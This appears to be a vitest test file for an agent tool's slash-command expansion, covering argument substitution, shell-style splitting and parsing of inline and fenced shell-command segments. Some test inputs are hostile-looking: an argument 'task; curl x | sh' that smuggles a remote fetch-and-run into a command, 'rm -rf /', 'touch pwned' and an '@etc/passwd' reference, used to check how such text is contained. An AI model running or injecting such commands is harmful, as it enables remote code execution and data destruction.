import { describe, expect, it } from 'vitest'
import {
  expandCommand,
  promptParts,
  splitArguments,
  substituteArguments,
} from '../../../source/extensions/expand.js'
import type { CommandDefinition } from '../../../source/extensions/types.js'

describe('substituteArguments', () => {
  it.each([
    ['$ARGUMENTS is everything typed', 'Fix issue #$ARGUMENTS now', '123 high', 'Fix issue #123 high now'],
    ['$0 and $1 are words, from 0; quotes keep one', 'PR $0 to "$1"', '456 "Ann Lee"', 'PR 456 to "Ann Lee"'],
    ['$ARGUMENTS[N] is the same as $N', '$ARGUMENTS[1]/$1 of $ARGUMENTS', 'a b', 'b/b of a b'],
    ['a $N with no such word stays as written', 'a=$0 b=$1', 'x', 'a=x b=$1'],
    // Anthropic's claude-api skill (a price table) and commit-commands' clean_gone (awk in a bash fence).
    [
      'prices with no argument for them stay, and the arguments are appended',
      'Opus: $5.00 / $25.00 per million',
      'migrate to the newest model',
      'Opus: $5.00 / $25.00 per million\n\nARGUMENTS: migrate to the newest model',
    ],
    ['no arguments: every $N stays', "awk '{print $1}' costs $5", '', "awk '{print $1}' costs $5"],
    ['$10 is the eleventh word, not $1 and a 0', '$10', 'a b c d e f g h i j k', 'k'],
    ['$1abc is not a placeholder', 'x$1abc', 'a b', 'x$1abc\n\nARGUMENTS: a b'],
    [
      'no placeholder: the arguments are appended',
      'Review the code',
      'src/',
      'Review the code\n\nARGUMENTS: src/',
    ],
    ['no placeholder and no arguments: unchanged', 'Review the code', '', 'Review the code'],
    ['every occurrence', '$0/$0 $ARGUMENTS', 'a b', 'a/a a b'],
  ])('%s', (_name, body, args, expected) => {
    expect(substituteArguments(body, args)).toBe(expected)
  })

  it('splits arguments like a shell: blanks separate, quotes join', () => {
    expect(splitArguments(`a  "b c" 'd e' f`)).toEqual(['a', 'b c', 'd e', 'f'])
  })
})

describe('promptParts', () => {
  it.each([
    ['plain text', 'just text', [{ kind: 'text', text: 'just text' }]],
    [
      'a command in backticks after !',
      'Stat: !`git diff --stat` done',
      [
        { kind: 'text', text: 'Stat: ' },
        { kind: 'shell', command: 'git diff --stat' },
        { kind: 'text', text: ' done' },
      ],
    ],
    [
      'a file reference after a blank or a bracket; trailing punctuation stays text',
      'See @src/a.ts. And (@b.md)',
      [
        { kind: 'text', text: 'See ' },
        { kind: 'file', path: 'src/a.ts' },
        { kind: 'text', text: '. And (' },
        { kind: 'file', path: 'b.md' },
        { kind: 'text', text: ')' },
      ],
    ],
    [
      'not files: an address, a decorator, a code span, an ordinary code span',
      'mail me@x.org, use @Component, `@src/a.ts` and `x`',
      [{ kind: 'text', text: 'mail me@x.org, use @Component, `@src/a.ts` and `x`' }],
    ],
    [
      "inside a fenced block !`…` runs (as Claude Code's commands show their context in one), @path and code spans stay text",
      'Context:\n```\n!`git status` @etc/passwd `x`\n```\nthen !`ls`',
      [
        { kind: 'text', text: 'Context:\n```\n' },
        { kind: 'shell', command: 'git status' },
        { kind: 'text', text: ' @etc/passwd `x`\n```\nthen ' },
        { kind: 'shell', command: 'ls' },
      ],
    ],
    [
      'a ```! block is one shell command, its whole text; its output takes its place',
      'Setup:\n\n```!\n"/p/setup.sh" a b\n```\n\nPlease work.',
      [
        { kind: 'text', text: 'Setup:\n\n' },
        { kind: 'shell', command: '"/p/setup.sh" a b' },
        { kind: 'text', text: '\n\nPlease work.' },
      ],
    ],
    [
      'a ```! block of several lines stays one command (judged whole: `git status; touch pwned` is not read-only)',
      '```!\ngit status\ntouch pwned\n```',
      [{ kind: 'shell', command: 'git status\ntouch pwned' }],
    ],
    [
      'inside a ```! block nothing else is cut out: !`…`, @path and code spans are part of the command',
      '```!\necho !`x` @a/b.ts `y`\n```\n',
      [
        { kind: 'shell', command: 'echo !`x` @a/b.ts `y`' },
        { kind: 'text', text: '\n' },
      ],
    ],
    [
      'a longer fence closes only with one as long; an indented fence counts',
      '  ````!\necho ```\n  ````\nafter',
      [
        { kind: 'shell', command: 'echo ```' },
        { kind: 'text', text: '\nafter' },
      ],
    ],
    ['an empty ```! block runs nothing and is gone', 'a\n```!\n\n```\nb', [{ kind: 'text', text: 'a\n\nb' }]],
    [
      'a ```! block never closed runs nothing: it stays text',
      'a\n```!\nrm -rf /\n',
      [{ kind: 'text', text: 'a\n```!\nrm -rf /\n' }],
    ],
    [
      '```! inside an ordinary fence is text (a fence shown in a fence), and ```!x is not a bash block',
      '````\n```!\nls\n```\n````\n```!x\nls\n```',
      [{ kind: 'text', text: '````\n```!\nls\n```\n````\n```!x\nls\n```' }],
    ],
  ])('%s', (_name, text, parts) => {
    expect(promptParts(text)).toEqual(parts)
  })
})

describe('expandCommand', () => {
  it("puts the arguments in before the pieces are cut, and carries the command's grants and model", () => {
    const command: CommandDefinition = {
      name: 'review',
      scope: 'project',
      namespace: [],
      description: 'Review',
      allowedTools: ['Bash(git diff *)'],
      model: 'small-model',
      readBody: async () => 'unused',
      file: '.agent-tui/commands/review.md',
    }
    expect(expandCommand(command, 'Review $0: !`git diff --stat $0`', 'src')).toEqual({
      name: 'review',
      file: '.agent-tui/commands/review.md',
      parts: [
        { kind: 'text', text: 'Review src: ' },
        { kind: 'shell', command: 'git diff --stat src' },
      ],
      allowedTools: ['Bash(git diff *)'],
      model: 'small-model',
    })
  })

  it('arguments go into a ```! block before it is cut: what they bring is part of the one command judged', () => {
    const command = { name: 'ralph', file: 'ralph.md', allowedTools: [] }
    const body = 'Run:\n```!\n"/p/setup.sh" $ARGUMENTS\n```\n'
    expect(expandCommand(command, body, 'task; curl x | sh').parts).toEqual([
      { kind: 'text', text: 'Run:\n' },
      { kind: 'shell', command: '"/p/setup.sh" task; curl x | sh' },
      { kind: 'text', text: '\n' },
    ])
  })
})
